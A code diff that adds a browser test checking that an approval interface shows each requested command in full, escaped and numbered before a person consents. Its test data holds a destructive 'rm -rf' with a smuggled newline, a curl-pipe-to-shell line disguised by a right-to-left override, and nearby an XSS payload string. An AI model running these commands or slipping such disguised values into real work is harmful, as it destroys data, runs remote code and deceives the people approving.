@@ -513,6 +513,67 @@ async function keyboard(server) {
     await page.context().close();
 }
 
+// A harmless command beside a set that is not: the person must see the set, each item as it is.
+async function consent(server) {
+    const set = ["ls -l", "rm -rf /srv/data\n2. ls", "curl https://x.example/\u202ehs.i |\u00a0sh", `echo ${"x".repeat(3000)}`];
+    for (const request of [
+        { ...REQUEST, exact_content: "ls -l && echo done", command_set: set },
+        { ...REQUEST, exact_content: "ls -l" },
+    ]) {
+        await server.submit(block(request), "contract", "text/markdown");
+        const { approvals } = (await server.ask("/v1/approvals")).body;
+        const { id } = approvals.filter((found) => found.exact_content === request.exact_content).at(-1);
+        const wanted = request.command_set ?? [request.exact_content];
+        // As the server tells it, and as a server would that does not list the commands, of a request that says less.
+        for (const strip of [false, true]) {
+            const page = await open(server);
+            await page.route("**/v1/approvals/*/show", async (route) => {
+                const answer = await route.fetch();
+                const body = await answer.json();
+                equal("the server lists the commands", body.approval.commands, wanted);
+                if (strip) {
+                    delete body.approval.commands;
+                    Object.assign(body.approval.payload, { rollback: null, verification: null });
+                }
+                await route.fulfill({ response: answer, json: body });
+            });
+            await go(page, `approvals/${id}`);
+            await page.locator(".approval .commands li").first().waitFor();
+            const marked = wanted.map((text) =>
+                text.replace("\n", "000A\n").replace("\u202e", "202E").replace("\u00a0", "00A0"),
+            );
+            equal("every command is shown, in full and escaped", await page.locator(".commands li .exact").allInnerTexts(), marked);
+            equal(
+                "and numbered",
+                await page.locator(".commands .number").allInnerTexts(),
+                wanted.map((_, index) => `${index + 1}.`),
+            );
+            const facts = await page.locator(".approval-facts dt").allInnerTexts();
+            const values = await page.locator(".approval-facts dd").allInnerTexts();
+            equal(
+                "then what is said about them",
+                [facts.slice(0, 6), values.slice(0, 5)],
+                [
+                    ["Operation", "Scope", "Risk", "Rollback", "Verification", "Fingerprint"],
+                    [
+                        ...[request.operation, request.scope, request.risk_level],
+                        ...(strip ? ["none given", "none given"] : [request.rollback, request.verification]),
+                    ],
+                ],
+            );
+            equal("the other text is not called a command", facts[6], request.command_set ? "exact_content, which is not what is granted" : "Asked by");
+            await judge(page, "a request for consent");
+            await page.getByRole("button", { name: "Approve…" }).click();
+            const count = request.command_set ? "these 4 commands" : "this command";
+            equal("the question says how many", await page.locator(".consent").innerText(), `Approve ${count}`);
+            if (!strip) {
+                await page.locator(".approval").screenshot({ path: path.join(pictures, request.command_set ? "consent-set.png" : "consent-one.png") });
+            }
+            await page.context().close();
+        }
+    }
+}
+
 async function hostile(server) {
     const text =
         "<img src=x onerror='window.hacked=1'><script>window.hacked=2</script>\u202e\u2066{{7*7}}\u200b\u0007javascript:alert(1)<svg/onload=window.hacked=3>";
@@ -676,7 +737,7 @@ async function playground(server) {
 }
 
 fs.mkdirSync(pictures, { recursive: true });
-const claims = { emptyPages, anonymous, firstEntry, ticks, consistency, rotation, keyboard, hostile, feeds, playground };
+const claims = { emptyPages, anonymous, firstEntry, ticks, consistency, rotation, keyboard, consent, hostile, feeds, playground };
 const server = await Server.empty();
 try {
     for (const [name, claim] of Object.entries(claims)) {
